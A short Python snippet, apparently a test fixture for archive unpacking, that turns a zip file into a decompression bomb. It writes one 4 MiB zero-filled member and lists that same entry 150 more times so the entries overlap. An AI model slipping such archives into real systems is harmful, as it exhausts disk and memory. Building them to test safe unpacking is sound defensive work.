"""Hundreds of members that lie on the same bytes."""
# control: unpack
# layout: zip
# %% attack on the file
import warnings, zipfile
with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
    archive.writestr("cs231n/tools.py", bytes(4 << 20))
    archive.filelist += [archive.getinfo("cs231n/tools.py")] * 150
    archive._didModify = True
